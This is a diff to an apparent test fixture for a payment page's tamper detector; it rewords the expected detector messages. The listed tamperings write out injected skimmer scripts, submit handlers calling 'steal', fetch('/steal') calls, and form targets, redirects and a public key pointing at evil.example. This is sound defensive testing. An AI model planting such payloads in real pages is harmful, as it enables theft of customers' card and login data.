@@ -38,18 +38,18 @@ export const tamperings: readonly Tampering[] = [
     name: 'a script from another host',
     tamper: inHead('<script src="https://evil.example/skim.js"></script>'),
     says: [
-      /not this release’s from line \d+ on; it holds a script from a file; there stands “<script src="https:\/\/evil\.example\/skim\.js"><\/script>”; where nothing should stand$/,
+      /differs from this release’s from line \d+ on; it contains a script file; it reads “<script src="https:\/\/evil\.example\/skim\.js"><\/script>”; this release has nothing there$/,
     ],
   },
   {
     name: 'an inline script',
     tamper: inHead('<script>document.forms[0].onsubmit=steal</script>'),
-    says: [/it holds a script; there stands “<script>document\.forms\[0\]/],
+    says: [/it contains a script; it reads “<script>document\.forms\[0\]/],
   },
   {
     name: 'an event handler',
     tamper: replacing('<div id="root">', '<div id="root" oninput="steal(event)">'),
-    says: [/it holds an event handler; there stands “<div id="root" oninput=/],
+    says: [/it contains an event handler; it reads “<div id="root" oninput=/],
   },
   {
     name: 'a script for readers of French alone',
@@ -57,7 +57,9 @@ export const tamperings: readonly Tampering[] = [
       if (!passing.languages.startsWith('fr')) return;
       replace(passing, '</head>', '<script>0</script></head>');
     }),
-    says: [/for readers of French, the HTML is not this release’s .* it holds a script; there/],
+    says: [
+      /for readers of French, the HTML differs from this release’s .* it contains a script; it reads/,
+    ],
   },
   {
     name: 'another key for readers of French alone',
@@ -65,17 +67,21 @@ export const tamperings: readonly Tampering[] = [
       if (!passing.languages.startsWith('fr')) return;
       replace(passing, '"publicKey":"-----BEGIN', '"publicKey":"evil-----BEGIN');
     }),
-    says: [/^\/getCompanyData: for readers of French, the public key that cards are sealed with/],
+    says: [/^\/getCompanyData: for readers of French, the public key for sealing cards/],
   },
   {
     name: 'other bytes in the script',
     tamper: onFile(/\/pay-[^/]*\.js$/, (passing) => (passing.body += ';fetch("/steal")')),
-    says: [/^\/assets\/pay-[\w-]+\.js: the script is not the built one: SHA-256 [0-9a-f]{64}/],
+    says: [
+      /^\/assets\/pay-[\w-]+\.js: the script differs from the built one: SHA-256 [0-9a-f]{64}/,
+    ],
   },
   {
     name: 'other bytes in the words of a language',
     tamper: onFile(/\/french-[^/]*\.js$/, (passing) => (passing.body += ';fetch("/steal")')),
-    says: [/^\/assets\/french-[\w-]+\.js: the script is not the built one: SHA-256 [0-9a-f]{64}/],
+    says: [
+      /^\/assets\/french-[\w-]+\.js: the script differs from the built one: SHA-256 [0-9a-f]{64}/,
+    ],
   },
   {
     name: 'other bytes in the program for readers of French alone',
@@ -83,13 +89,13 @@ export const tamperings: readonly Tampering[] = [
       if (passing.languages.startsWith('fr')) passing.body += ';fetch("/steal")';
     }),
     says: [
-      /^\/assets\/pay-[\w-]+\.js: for readers of French, the script is not the built one: SHA-256/,
+      /^\/assets\/pay-[\w-]+\.js: for readers of French, the script differs from the built one: SHA-256/,
     ],
   },
   {
     name: 'other bytes in the style sheet',
     tamper: replacing('</style>', 'input{background:url(/steal)}</style>'),
-    says: [/not this release’s from line \d+ on/],
+    says: [/differs from this release’s from line \d+ on/],
   },
   {
     name: 'no policy',
@@ -111,7 +117,7 @@ export const tamperings: readonly Tampering[] = [
     }),
     says: [
       /the header content-security-policy is missing$/,
-      /the header “content-security-policy-report-only” is there, .* and stops nothing\)$/,
+      /this release does not send the header “content-security-policy-report-only”: .* and blocks nothing\)$/,
     ],
   },
   {
@@ -127,14 +133,14 @@ export const tamperings: readonly Tampering[] = [
       is.replace("; require-trusted-types-for 'script'; trusted-types 'none'", ''),
     ),
     says: [
-      /does not say require-trusted-types-for 'script' any more$/,
-      /does not say trusted-types 'none' any more$/,
+      /no longer contains require-trusted-types-for 'script'$/,
+      /no longer contains trusted-types 'none'$/,
     ],
   },
   {
     name: 'a policy that lets others frame the page',
     tamper: withPolicy((is) => is.replace("; frame-ancestors 'none'", '')),
-    says: [/does not say frame-ancestors 'none' any more$/],
+    says: [/no longer contains frame-ancestors 'none'$/],
   },
   {
     name: 'no nosniff',
@@ -144,22 +150,22 @@ export const tamperings: readonly Tampering[] = [
   {
     name: 'another base',
     tamper: replacing('<head>', '<head><base href="https://evil.example/">'),
-    says: [/it holds another base for all addresses; there stands “<base href=/],
+    says: [/it contains a base for all URLs; it reads “<base href=/],
   },
   {
-    name: 'a page that leaves by itself',
+    name: 'a page that redirects',
     tamper: inHead('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
-    says: [/it holds an order to the browser \(meta http-equiv\)/],
+    says: [/it contains an instruction to the browser \(meta http-equiv\)/],
   },
   {
-    name: 'a page within the page',
+    name: 'an embedded page',
     tamper: replacing('<div id="root">', '<iframe src="/x"></iframe><div id="root">'),
-    says: [/it holds a page within the page; there stands “<iframe/],
+    says: [/it contains an embedded page; it reads “<iframe/],
   },
   {
     name: 'a form that is sent elsewhere',
     tamper: replacing('<form ', '<form action="https://evil.example/" '),
-    says: [/it holds another place for a form to be sent to; there stands “<form action=/],
+    says: [/it contains another form target; it reads “<form action=/],
   },
   {
     name: 'another public key',
@@ -171,51 +177,53 @@ export const tamperings: readonly Tampering[] = [
       ),
     ),
     says: [
-      /^\/getCompanyData: the public key that cards are sealed with on the page is “-----BEGIN PUBLIC KEY----- evil/,
+      /^\/getCompanyData: the public key for sealing cards on the page is “-----BEGIN PUBLIC KEY----- evil/,
     ],
   },
   {
-    name: 'another name, wherever it stands',
+    name: 'another name everywhere',
     tamper: onPage((passing) => (passing.body = passing.body.replaceAll('Ti Kaye', 'Ti Kay'))),
-    says: [
-      /^\/getCompanyData: the name of the company on the page is “Ti Kay” instead of “Ti Kaye”$/,
-    ],
+    says: [/^\/getCompanyData: the company’s name on the page is “Ti Kay” instead of “Ti Kaye”$/],
   },
   {
     name: 'a preload from another host',
     tamper: inHead('<link rel="preload" as="script" href="https://evil.example/x.js">'),
-    says: [/it holds something to be loaded \(link\); there stands “<link rel="preload"/],
+    says: [/it contains a linked resource; it reads “<link rel="preload"/],
   },
   {
-    name: 'a preload before the answer',
+    name: 'a preload before the response',
     tamper: onPage((passing) => {
       passing.early = { link: '<https://evil.example/x.js>; rel=preload; as=script' };
     }),
-    says: [/before the answer the header “link” is there, .*“<https:\/\/evil\.example\/x\.js>/],
+    says: [
+      /before the response, this release does not send the header “link”: “<https:\/\/evil\.example\/x\.js>/,
+    ],
   },
   {
     name: 'a header that connects to another host',
     tamper: withHeader('link', '<https://evil.example>; rel=preconnect'),
     says: [
-      /^\/PayCompany\/\w+: the header “link” is there, .*rel=preconnect” \(it makes browsers load/,
+      /^\/PayCompany\/\w+: this release does not send the header “link”: .*rel=preconnect” \(it makes browsers load/,
     ],
   },
   {
-    name: 'a way to somewhere else',
+    name: 'a redirect',
     tamper: onPage((passing) => {
       passing.status = 302;
       passing.headers.set('location', 'https://evil.example/PayCompany');
     }),
-    says: [/it sends customers on to “https:\/\/evil\.example\/PayCompany” \(status 302\)$/],
+    says: [/it redirects customers to “https:\/\/evil\.example\/PayCompany” \(status 302\)$/],
   },
   {
     name: 'a cookie',
     tamper: withHeader('set-cookie', 'who=1'),
-    says: [/the header “set-cookie” is there, .*: “who=1” \(it leaves something/],
+    says: [/this release does not send the header “set-cookie”: “who=1” \(it stores data/],
   },
   {
-    name: 'a header that leads away',
+    name: 'a header that redirects',
     tamper: withHeader('refresh', '0;url=https://evil.example/'),
-    says: [/the header “refresh” is there, .* \(it sends customers elsewhere after some time\)$/],
+    says: [
+      /this release does not send the header “refresh”: .* \(it redirects customers after a delay\)$/,
+    ],
   },
 ];
